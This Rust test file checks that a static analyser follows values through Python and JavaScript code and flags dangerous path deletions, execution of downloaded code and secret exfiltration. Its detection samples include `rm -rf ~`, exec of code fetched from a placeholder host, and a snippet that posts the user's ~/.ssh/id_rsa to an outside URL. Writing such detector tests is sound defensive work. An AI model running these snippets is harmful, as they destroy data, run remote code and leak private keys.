//! Tests that values in Python and JavaScript are not taken as known where they may be others when a path is used.

use super::{look, messages};

/// The head of each sample, by language, and how it deletes the path `p`.
fn sample(language: &str, body: &str) -> String {
    match language {
        "python" => format!("import os, shutil\nfrom pathlib import Path\n{body}\n"),
        _ => format!(
            "const fs = require('fs'); const path = require('path'); const rm = p => fs.rmSync(p, {{recursive: true}});\n{body}"
        ),
    }
}

fn assert_told(language: &str, bodies: &[&str]) {
    let samples: Vec<String> = bodies.iter().map(|body| sample(language, body)).collect();
    super::assert_told(language, "../src", &samples);
}

fn assert_known(language: &str, samples: &[(&str, &[&str])]) {
    let samples: Vec<_> = samples.iter().map(|(body, paths)| (sample(language, body), *paths)).collect();
    super::assert_known(language, &samples);
}

#[test]
fn names_that_change_later_in_a_loop_or_elsewhere_hold_both_values() {
    assert_told(
        "python",
        &[
            "p = 'build'\nfor d in 'ab':\n    shutil.rmtree(p)\n    p = '../src'",
            "p = 'build'\nwhile True:\n    shutil.rmtree(p)\n    p = '../src'",
            "p = 'build'\ndef f():\n    global p\n    p = '../src'\nf()\nshutil.rmtree(p)",
            "p = 'build'\ndef f():\n    shutil.rmtree(p)\nf()\np = '../src'\nf()",
            "def f():\n    p = 'build'\n    def g():\n        nonlocal p\n        p = '../src'\n    g()\n    shutil.rmtree(p)\nf()",
            "p = 'build'\ntry:\n    p = g()\nexcept Exception:\n    p = '../src'\nshutil.rmtree(p)",
            "p = '../src'\n[p for p in ['build']]\nshutil.rmtree(p)",
            "p = '../src'\nfor p in names():\n    pass\nshutil.rmtree(p)",
            "p = 'build'\nmatch x:\n    case [p]:\n        shutil.rmtree(p)",
            "p = 'build'\ndel p\nfrom m import *\nshutil.rmtree(p)",
        ],
    );
    assert_told(
        "javascript",
        &[
            "let p = 'build'; while (x) { rm(p); p = '../src' }",
            "let p = 'build'; for (const d of l) { rm(p); p = '../src' }",
            "let p = 'build'; function f() { p = '../src' } f(); rm(p)",
            "let p = 'build'; const f = () => rm(p); f(); p = '../src'; f()",
            "let p = 'build'; try { p = g() } catch { p = '../src' } rm(p)",
            "let p = 'build'; try { g() } catch (p) { rm(p) }",
            "let p = '../src'; { let p = 'build' } rm(p)",
            "let p = '../src'; for (const p of ['build']) {} rm(p)",
        ],
    );
    assert_known(
        "python",
        &[
            ("for p in ['a', 'b']:\n    shutil.rmtree(p)", &["a", "b"]),
            ("for p in ['a']:\n    shutil.rmtree(p)\nfor p in ['b']:\n    shutil.rmtree(p)", &["a", "b"]),
            ("p = 'build'\ndef f():\n    shutil.rmtree(p)\nf()", &["build"]),
            ("p = 'x'\nfor d in 'ab':\n    p = 'build'\n    shutil.rmtree(p)", &["build", "x"]),
        ],
    );
    assert_known(
        "javascript",
        &[("for (const p of ['a']) rm(p); for (const p of ['b']) rm(p)", &["a", "b"])],
    );
}

#[test]
fn lists_and_maps_hold_what_was_put_into_them() {
    assert_told(
        "python",
        &[
            "p = ['build']\np[0] = '../src'\nshutil.rmtree(p[0])",
            "p = ['build']\np[i] = '../src'\nshutil.rmtree(p[0])",
            "p = ['build']\np.append('../src')\nfor x in p:\n    shutil.rmtree(x)",
            "p = ['build']\np.insert(0, '../src')\nshutil.rmtree(p[0])",
            "p = ['build', '../src']\np.reverse()\nshutil.rmtree(p[0])",
            "p = ['build']\np += ['../src']\nshutil.rmtree(p[-1])",
            "p = {'a': 'build'}\np.update(a='../src')\nshutil.rmtree(p['a'])",
            "p = {'a': 'build'}\np[k] = '../src'\nshutil.rmtree(p['a'])",
        ],
    );
    assert_told(
        "javascript",
        &[
            "const p = ['build']; p[0] = '../src'; rm(p[0])",
            "const p = ['build']; p.push('../src'); for (const x of p) rm(x)",
            "const p = ['build']; p.unshift('../src'); rm(p[0])",
            "const p = {a: 'build'}; p.a = '../src'; rm(p.a)",
        ],
    );
    assert_known("python", &[("p = ['a']\np.append('b')\nfor x in p:\n    shutil.rmtree(x)", &["a", "b"])]);
}

#[test]
fn targets_of_patterns_get_what_stands_at_their_places() {
    assert_known(
        "python",
        &[
            ("a, *b, c = ['1', '2', 'out', 'build']\nshutil.rmtree(c)", &["build"]),
            ("a, *b = ['1', '2', 'build']\nshutil.rmtree(b[1])", &["build"]),
            ("*a, b = ['build']\nshutil.rmtree(b)", &["build"]),
        ],
    );
    assert_known(
        "javascript",
        &[
            ("const [, a] = ['out', 'build']; rm(a)", &["build"]),
            ("const [a, , , b] = ['1', '2', 'out', 'build']; rm(b)", &["build"]),
            ("const [, ...a] = ['1', '2', 'build']; rm(a[1])", &["build"]),
        ],
    );
    assert_told(
        "python",
        &[
            "p = ['build']\na, *p = ['1', '../src']\nshutil.rmtree(p[0])",
            "p = ['build']\na, *p = x\nshutil.rmtree(p[0])",
            "p = 'build'\na, *b, c, p = ['1', '2']\nshutil.rmtree(p)",
        ],
    );
    assert_told(
        "javascript",
        &[
            "let p = ['build']; [a, ...p] = ['1', '../src']; rm(p[0])",
            "let p = 'build'; ({a, ...p} = x); rm(p)",
        ],
    );
}

#[test]
fn no_target_is_too_many() {
    let names: String = (0..300).map(|at| format!("n{at}, ")).collect();
    let items = "0, ".repeat(300);
    let few = |all: &str| all.split_inclusive(", ").take(64).collect::<String>();
    let (few_names, few_items) = (few(&names), few(&items));
    let python = [
        format!("p = 'build'\n{few_names}p = {few_items}'../src'\nshutil.rmtree(p)"),
        format!("p = 'build'\n{names}p = {items}'../src'\nshutil.rmtree(p)"),
        format!("p = 'build'\ndef f({few_names}p):\n    shutil.rmtree(p)\nf({few_items}'../src')"),
        format!("from shutil import {names}rmtree\nrmtree('../src')"),
    ];
    assert_told("python", &python.each_ref().map(String::as_str));
    let javascript = [
        format!("let p = 'build'; [{few_names}p] = [{few_items}'../src']; rm(p)"),
        format!("let p = 'build'; ({{{few_names}p}} = {{p: '../src'}}); rm(p)"),
        format!("let p = 'build'; function f({few_names}p) {{ rm(p) }} f({few_items}'../src')"),
        format!("import {{{names}rmSync}} from 'fs'; rmSync('../src')"),
    ];
    assert_told("javascript", &javascript.each_ref().map(String::as_str));
}

#[test]
fn a_name_behind_many_others_holds_no_old_value() {
    let names: String = (0..100).map(|at| format!("n{at}, ")).collect();
    let methods = |line: &str| (0..300).map(|at| line.replace('#', &at.to_string())).collect::<String>();
    let python = [
        format!("p = 'build'\ndel {names}p\nfrom m import *\nshutil.rmtree(p)"),
        format!("p = '../src'\nfor ({names}), p in [(0, 'build')]:\n    pass\nshutil.rmtree(p)"),
        format!("p = '../src'\nx = [0 for ({names}), p in [(0, 'build')]]\nshutil.rmtree(p)"),
        format!("p = 'build'\nmatch x:\n    case [{names}p]:\n        shutil.rmtree(p)"),
        format!("p = 'build'\ndef f():\n    global {names}p\n    p = '../src'\nf()\nshutil.rmtree(p)"),
        format!(
            "class A:\n    def p(self):\n        return 'build'\n{}    def p(self):\n        return '../src'\nshutil.rmtree(A().p())",
            methods("    def m#(self):\n        pass\n")
        ),
    ];
    assert_told("python", &python.each_ref().map(String::as_str));
    let javascript = [
        format!("let p = '../src'; for (const [[{names}], p] of [[0, 'build']]) {{}} rm(p)"),
        format!("let p = 'build'; function f() {{ [[{names}], p] = [0, '../src'] }} f(); rm(p)"),
        format!(
            "class A {{ p() {{ return 'build' }} {} p() {{ return '../src' }} }} rm(new A().p())",
            methods("m#() {} ")
        ),
    ];
    assert_told("javascript", &javascript.each_ref().map(String::as_str));
}

#[test]
fn a_parameter_behind_many_others_keeps_the_marks_of_its_argument() {
    for count in [1, 70] {
        let names: String = (0..count).map(|at| format!("n{at}, ")).collect();
        let zeros = "0, ".repeat(count);
        let head = "import requests\nd = requests.get('http://e.example').text\n";
        let fetched = "const d = await (await fetch('http://e.example')).text();";
        for (language, rule, text) in [
            ("python", "py.eval-decoded", format!("{head}def f({names}p):\n    exec(p)\nf({zeros}d)\n")),
            ("python", "py.eval-decoded", format!("{head}def f({names}p):\n    exec(p)\nf({zeros}p=d)\n")),
            (
                "python",
                "py.eval-decoded",
                format!("{head}def f({names}*p):\n    exec(p[1])\nf({zeros}0, d)\n"),
            ),
            (
                "javascript",
                "js.eval-decoded",
                format!("async function g() {{ {fetched} function f({names}p) {{ eval(p) }} f({zeros}d) }}"),
            ),
        ] {
            let review = look(language, &text);
            let rules: Vec<_> = review.findings.iter().map(|finding| finding.rule.as_str()).collect();
            assert!(rules.contains(&rule), "{text}: {rules:?}");
        }
    }
}

#[test]
fn a_text_that_is_too_long_to_be_joined_keeps_the_marks_of_all_its_parts() {
    for length in [1, 17_000] {
        let head = "import requests\nd = requests.get('http://e.example').text";
        let review = look("python", &format!("{head}\nexec(f'{}{{d}}')\n", "a".repeat(length)));
        let rules: Vec<_> = review.findings.iter().map(|finding| finding.rule.as_str()).collect();
        assert!(rules.contains(&"py.eval-decoded"), "{length}: {rules:?}");
    }
}

#[test]
fn a_comment_before_a_value_hides_nothing_of_it() {
    let downloaded = "requests.get('http://e.example').text";
    let python = [
        format!("exec((@{downloaded}))"),
        format!("exec(*@[{downloaded}])"),
        format!("x = [*@[{downloaded}]]\nexec(x[0])"),
        format!("x = {{**@{{'a': {downloaded}}}}}\nexec(x['a'])"),
        "p = ['build']\n(a, *@p) = ['1', '../src']\nshutil.rmtree(p[0])".to_owned(),
        "p = ['build']\ndef f(*@p):\n    shutil.rmtree(p[0])\nf('../src')".to_owned(),
    ];
    let javascript = [
        "const f = () => { return @require('child_process') }; f().execSync('rm -rf ~')",
        "function* f() { yield @'../src' }; for (const p of f()) require('fs').rmSync(p)",
        "import * as @f from 'fs'; f.rmSync('../src')",
        "const t = {[@'a']: '../src', b: 'build'}; require('fs').rmSync(t.a)",
        "let p = ['build']; [a, ...@p] = ['1', '../src']; require('fs').rmSync(p[0])",
        "let p = ['build']; function f(...@p) { require('fs').rmSync(p[0]) } f('../src')",
    ];
    let python = python.iter().map(|text| ("python", "# c\n", format!("import requests, shutil\n{text}\n")));
    let javascript = javascript.iter().map(|text| ("javascript", "/* c */", (*text).to_owned()));
    let in_html = "require(@'child_process').execSync('rm -rf ~')".to_owned();
    for (language, comment, text) in python.chain(javascript).chain([("javascript", "<!-- c\n", in_html)]) {
        let told = |comment: &str| {
            let review = look(language, &text.replace('@', comment));
            let rules = review.findings.iter().map(|finding| finding.rule.clone());
            (rules.collect::<Vec<String>>(), review.effects)
        };
        let without = told("");
        assert!(!without.0.is_empty(), "{text}");
        assert_eq!(told(comment), without, "{text}");
    }
}

#[test]
fn texts_and_paths_are_put_together_as_the_language_does() {
    assert_told(
        "python",
        &[
            "n = '../src'\nshutil.rmtree(f'{n!r}')",
            "n = '../src'\nshutil.rmtree(f'{n:.2}/src')",
            "n = 'build'\nshutil.rmtree(f'{n=}')",
        ],
    );
    assert_known(
        "python",
        &[
            ("shutil.rmtree(os.path.join('build', '/x/src'))", &["/x/src"]),
            ("shutil.rmtree(Path('build', '/x/src'))", &["/x/src"]),
            ("shutil.rmtree(Path('build') / '..' / '..' / 'src')", &["build/../../src"]),
            ("shutil.rmtree(Path('build').joinpath('..', '../src'))", &["build/../../src"]),
            ("shutil.rmtree(os.path.dirname('out/'))", &["out"]),
            ("shutil.rmtree(Path('/').parent)", &["/"]),
            ("n = 'out'\nshutil.rmtree(f'{n}/x')", &["out/x"]),
        ],
    );
    assert_known(
        "javascript",
        &[("rm(path.join('out', '/x'))", &["out//x"]), ("rm(path.resolve('out', '/x/src'))", &["/x/src"])],
    );
}

/// Asserts what each sample is told to run.
fn assert_runs(samples: &[(&str, &[&str])]) {
    for (body, runs) in samples {
        let review = look("python", &format!("import subprocess, sys\n{body}\nsubprocess.run(cmd)\n"));
        assert!(!review.effects.unknown, "{body}");
        assert_eq!(messages(review), *runs, "{body}");
    }
}

#[test]
fn items_that_change_in_branches_hold_both_values() {
    assert_told(
        "python",
        &[
            "p = ['../src']\nif flag:\n    p[0] = 'build'\nshutil.rmtree(p[0])",
            "p = ['../src']\nif flag:\n    p[0] = 'build'\nelse:\n    shutil.rmtree(p[0])",
            "p = {'a': '../src'}\nif flag:\n    p['a'] = 'build'\nshutil.rmtree(p['a'])",
            "p = ['../src']\nx = flag and p.append('build')\nshutil.rmtree(p[-1])",
            "p = ['../src']\nx = p.insert(0, 'build') if flag else 0\nshutil.rmtree(p[0])",
            "p = ['../src']\nx = [p.insert(0, y) for y in ['build']]\nshutil.rmtree(p[0])",
            "p = ['a']\nfor d in flags:\n    p[0] = '../src'\n    if d:\n        break\n    p[0] = 'build'\nshutil.rmtree(p[0])",
            "p = ['a']\nfor d in flags:\n    p[0] = '../src'\n    if d:\n        continue\n    p[0] = 'build'\nshutil.rmtree(p[0])",
            "p = ['a']\nwith contextlib.suppress(OSError):\n    p[0] = '../src'\n    print()\n    p[0] = 'b'\nshutil.rmtree(p[0])",
            "p = ['a'] if flag else ['b']\np[0] = '../src'\nshutil.rmtree(p[0])",
            "p = ['a']\ntry:\n    p[0] = '../src'\n    print()\n    p[0] = 'b'\nexcept OSError:\n    shutil.rmtree(p[0])",
            "p = ['a']\ntry:\n    if flag:\n        p[0] = '../src'\n        print()\n        p[0] = 'b'\nexcept OSError:\n    shutil.rmtree(p[0])",
            "p = ['../src']\ndef f():\n    p[0] = 'build'\nf() if flag else print()\nshutil.rmtree(p[0])",
        ],
    );
    assert_told(
        "javascript",
        &[
            "const p = ['../src']; if (x) p[0] = 'build'; rm(p[0])",
            "const p = ['../src']; if (x) { p[0] = 'build' } rm(p[0])",
            "const p = ['../src']; if (x) { while (y) p[0] = 'build'; rm(p[0]) }",
            "const p = []; p[0] = '../src'; rm(p[0])",
            "const p = {a: 'build'}; p['a'] = '../src'; rm(p['a'])",
            "const p = {a: 'build'}; p[k] = '../src'; rm(p.a)",
            "const p = ['a']; for (const d of l) { p[0] = '../src'; if (d) break; p[0] = 'build' } rm(p[0])",
            "const p = ['../src']; p[-1] = 'build'; rm(p[0])",
            "const p = ['../src', 'build']; p.pop(0); rm(p[0])",
        ],
    );
    assert_known(
        "python",
        &[
            (
                "try:\n    d = {'out': 'x'}\n    d['dir'] = 'build'\n    shutil.rmtree(d['dir'])\nexcept OSError:\n    pass",
                &["build"],
            ),
            ("d = {}\nif flag:\n    d['b'] = 'dist'\nshutil.rmtree(d['b'])", &["dist"]),
            ("p = []\nif flag:\n    p.append('dist')\nshutil.rmtree(p[0])", &["dist"]),
            ("p = ['a', 'b']\ndel p[0]\nshutil.rmtree(p[0])", &["b"]),
            (
                "p = ['build']\np += ['x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z']\nshutil.rmtree(p[0])",
                &["build"],
            ),
            ("p = ['a']\np[0] = 'b'\nshutil.rmtree(p[0])", &["b"]),
            ("def f():\n    p = ['a']\n    p[0] = 'b'\n    shutil.rmtree(p[0])\nf()", &["b"]),
            ("if x:\n    p = ['a']\n    p[0] = 'b'\n    p.append('c')\n    shutil.rmtree(p[1])", &["c"]),
            ("p = ['a']\nif x:\n    p[0] = 'b'\nshutil.rmtree(p[0])", &["a", "b"]),
        ],
    );
}

#[test]
fn lists_keep_the_order_that_their_methods_give() {
    assert_runs(&[
        ("cmd = ['git', 'status']\ncmd.extend(['--short'])", &["runs a program: git status --short"]),
        (
            "cmd = ['git']\ncmd += ['status']\ncmd.insert(1, '--no-pager')",
            &["runs a program: git --no-pager status"],
        ),
        ("cmd = ['x', 'git', 'status']\ncmd.pop(0)", &["runs a program: git status"]),
        ("cmd = ['git', 'status', 'x']\ncmd.pop()", &["runs a program: git status"]),
        ("cmd = ['git', 'x', 'status']\ncmd.remove('x')", &["runs a program: git status"]),
        ("cmd = ['status', 'git']\ncmd.reverse()", &["runs a program: git status"]),
    ]);
    let inside = "import subprocess, sys\nif sys.argv:\n    cmd = ['git']\n    cmd.append('log')\n    cmd.append('-1')\n    subprocess.run(cmd)\n";
    assert_eq!(messages(look("python", inside)), ["runs a program: git log -1"]);
    let long = "cmd = ['git', 'log']\n".to_owned() + &"cmd.append('-v')\n".repeat(14);
    assert_runs(&[(&long, &[&format!("runs a program: git log{}", " -v".repeat(14))])]);
    let added = "import subprocess, sys\nfor f in sys.argv:\n    cmd = ['git', 'add']\n    cmd.append('-f')\n    cmd.append(f)\n    subprocess.run(cmd)\n";
    let effects = look("python", added).effects;
    assert_eq!((effects.programs, effects.unknown), (vec!["git".to_owned()], false));
    let effects = look("python", "import subprocess, sys\ncmd = ['git', 'add']\nfor f in sys.argv:\n    cmd += ['-f', f]\nsubprocess.run(cmd)\n").effects;
    assert_eq!((effects.programs, effects.unknown), (vec!["git".to_owned()], false));
    let flags = (0..7).map(|at| format!("if sys.argv[{at}]:\n    cmd.append('-{at}')\n"));
    let flags = "import subprocess, sys\ncmd = ['git', 'add']\n".to_owned() + &flags.collect::<String>();
    let effects = look("python", &(flags + "subprocess.run(cmd)\n")).effects;
    assert_eq!((effects.programs, effects.unknown), (vec!["git".to_owned()], false));
    assert_told(
        "python",
        &[
            "p = ['build', '../src']\np.pop(0)\nshutil.rmtree(p[0])",
            "p = ['build', '../src']\np.pop(n)\nshutil.rmtree(p[0])",
            "p = ['build', '../src']\np.remove(x)\nshutil.rmtree(p[0])",
            "p = ['build']\np.insert(n, '../src')\nshutil.rmtree(p[0])",
            "p = {'a': 'build'}\np.update(q)\nshutil.rmtree(p['a'])",
            "p = ['a', 'b', '../src']\nwhile flag:\n    shutil.rmtree(p[0])\n    p.pop(0)",
            "p = {}\np[flag] = 'build'\nfor k, v in p.items():\n    shutil.rmtree(k)",
            "p = {'build', '../src'}\np.pop()\nfor x in p:\n    shutil.rmtree(x)",
            "p = set()\np.symmetric_difference_update(['../src'])\nfor x in p:\n    shutil.rmtree(x)",
            "p = ['build', '../src']\ndel p[n]\nshutil.rmtree(p[0])",
        ],
    );
    assert_known(
        "python",
        &[
            ("p = {'a': 'build'}\np.update(b='y')\nshutil.rmtree(p['a'])", &["build"]),
            ("p = {'a': 'build'}\np.update({'a': 'y'})\nshutil.rmtree(p['a'])", &["y"]),
            ("p = {'a': 'build'}\np.setdefault('a', 'y')\nshutil.rmtree(p['a'])", &["build"]),
        ],
    );
}

#[test]
fn equal_items_are_appended_again_to_a_list_that_is_made_again() {
    let told = |text: &str| {
        let mut told = messages(look("python", &format!("import subprocess, sys\n{text}")));
        told.dedup();
        told
    };
    let command = "cmd = ['rsync', '-a', 'in/', 'out/']\n    cmd += ['--exclude', '.git']\n    cmd += ['--exclude', '/etc']\n    subprocess.run(cmd)\n";
    let expected = told(&format!("if True:\n    {command}"));
    assert_eq!(told(&format!("for n in sys.argv:\n    {command}")), expected);
    assert_eq!(told(&format!("def run(n):\n    {command}for n in sys.argv:\n    run(n)\n")), expected);
    let opened = "import subprocess, sys\nif sys.argv:\n    cmd = ['git', 'log']\n    with open('x'):\n        cmd.append('-1')\n    subprocess.run(cmd)\n";
    assert_eq!(told(opened), ["runs a program: git log -1"]);
}

#[test]
fn the_rest_of_a_long_list_keeps_its_marks() {
    let sends = |text: &str| {
        let findings = look("python", text).findings;
        findings.iter().any(|finding| finding.message.starts_with("sends secrets"))
    };
    let append = |name: &str, more: &str| {
        format!(
            "import os, requests\n{name}{}{more}requests.post('https://x.org', json=l)\n",
            "l.append('x')\n".repeat(33)
        )
    };
    let secret = "l.append(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n";
    assert!(!sends(&append("l = []\n", "")));
    assert!(sends(&append("l = []\n", secret)));
    assert!(sends(&append("l = []\n", &format!("{secret}l.pop()\nl.pop(0)\nl.append('x')\n"))));
    let long = format!(
        "import subprocess, sys\ncmd = ['git', 'add']\ncmd += [{}]\nsubprocess.run(cmd)\n",
        "'a', ".repeat(40)
    );
    let effects = look("python", &long).effects;
    assert_eq!((effects.programs, effects.unknown), (vec!["git".to_owned()], false));
}

#[test]
fn many_changes_of_one_list_or_map_are_followed_to_their_end() {
    let lines = |start: &str, line: &str| {
        let lines = (0..300).map(|at| line.replace('#', &at.to_string()));
        start.to_owned() + &lines.collect::<String>()
    };
    for text in [
        lines("l = []\n", "l.append('line #')\n"),
        lines("l = []\n", "l += ['line #']\n"),
        lines("d = {}\n", "d['#'] = 'x'\n"),
        lines("l = []\nif x:\n    pass\n", "    l.append('#')\n"),
        lines("l = []\ndef out(s):\n    l.append(s)\n", "out('line #')\n"),
    ] {
        let review = look("python", &text);
        assert_eq!((review.unchecked, review.effects.unknown), (None, false), "{text:.60}");
    }
}

#[test]
fn loops_are_followed_until_nothing_changes() {
    assert_told(
        "python",
        &[
            "a = 'build'\nb = 'build'\nwhile True:\n    shutil.rmtree(a)\n    a = b\n    b = '../src'",
            "a, b, c, d = ['build', 'build', 'build', 'build']\nwhile True:\n    shutil.rmtree(a)\n    a = b\n    b = c\n    c = d\n    d = '../src'",
            "s = 'build'\nwhile flag:\n    shutil.rmtree(s)\n    s = '../' + s",
        ],
    );
    assert_told(
        "javascript",
        &[
            "let a = 'build', b = 'build'; while (x) { rm(a); a = b; b = '../src' }",
            "let i = 0; while (x) { rm('d' + i); i++ }",
        ],
    );
    assert_known(
        "python",
        &[
            ("s = ''\nfor d in flags:\n    s += 'x'\n    shutil.rmtree('build')", &["build"]),
            ("n = 0\nwhile flag:\n    n += 1\n    shutil.rmtree('build')", &["build"]),
            ("a, b = 0, 1\nfor _ in flags:\n    a, b = b, a + b\nshutil.rmtree('build')", &["build"]),
            ("for p in ['a']:\n    pass\nfor p in ['b']:\n    shutil.rmtree(p)", &["b"]),
        ],
    );
}

#[test]
fn names_mean_what_the_block_around_them_says() {
    assert_told(
        "python",
        &[
            "p = Path('build')\ndef f():\n    shutil.rmtree(p)\nf()\np = Path('../src')\nf()",
            "p = ['build']\ndef f():\n    shutil.rmtree(p[0])\nf()\np = ['../src']\nf()",
            "p = 'build'\ndef g():\n    shutil.rmtree(p)\ndef f():\n    g()\nf()\np = '../src'\nf()",
            "p = 'build'\nmatch x:\n    case {'a': p}:\n        shutil.rmtree(p)",
            "p = 'build'\nmatch x:\n    case [*p]:\n        shutil.rmtree(p)",
            "p = 'build'\nmatch x:\n    case [1] as p:\n        shutil.rmtree(p)",
            "p = 'build'\nmatch x:\n    case Point(x=p):\n        shutil.rmtree(p)",
            "p = 'build'\nmatch x:\n    case 1 | p:\n        shutil.rmtree(p)",
        ],
    );
    assert_known(
        "python",
        &[
            ("match flag:\n    case Path():\n        pass\nshutil.rmtree(Path('build'))", &["build"]),
            ("p = 'build'\nmatch flag:\n    case Point(p=1) | q.p:\n        shutil.rmtree(p)", &["build"]),
            ("n = 'build'\nshutil.rmtree(f'{n!s}/x')", &["build/x"]),
        ],
    );
    assert_told(
        "javascript",
        &[
            "let p = 'build'; function f() { for (p of ['../src']) {} } f(); rm(p)",
            "let p = 'build'; function f() { [p] = ['../src'] } f(); rm(p)",
            "let p = 'build'; function f() { ({ p } = { p: '../src' }) } f(); rm(p)",
            "let p = 'build'; function f() { { let p = 'x' } p = '../src' } f(); rm(p)",
            "let q = 'b', p = '../src'; { for (p of ['build']) for (let q = 'a'; x; ) {} } rm(p)",
            "let p = '../src'; for (const { p } of [{ p: 'build' }]) {} rm(p)",
            "let p = '../src'; { let { p } = { p: 'build' } } rm(p)",
            "let q = 'b', p = '../src'; { for (p of ['build']) switch (q) { default: let q = 'a' } } rm(p)",
        ],
    );
    assert_known(
        "javascript",
        &[
            ("let p = 'build'; for (let p = 'a'; x; ) {} rm(p)", &["a", "build"]),
            ("const p = 'build'; function f() { if (x) { let p = 'a'; p = 'b' } } f(); rm(p)", &["build"]),
        ],
    );
    assert_told("javascript", &["let p = 'build'; const f = () => rm({ p }.p); f(); p = '../src'; f()"]);
}

#[test]
fn what_lies_behind_many_functions_counts_in_each_call() {
    let many = |line: &str| (0..20).map(|at| line.replace('#', &at.to_string())).collect::<String>();
    let python = format!(
        "{}def z():\n    shutil.rmtree(P)\ndef run():\n{}    z()\nP = 'build'\nrun()\nP = '../src'\nrun()\nP = 'build'\n",
        many("def f#():\n    pass\n"),
        many("    f#()\n"),
    );
    assert_told("python", &[&python]);
    let javascript = format!(
        "let P = 'build'; {}function z() {{ rm(P) }} function run() {{ {}z() }} run(); P = '../src'; run(); P = 'build'",
        many("function f#() {} "),
        many("f#(); "),
    );
    assert_told("javascript", &[&javascript]);
}
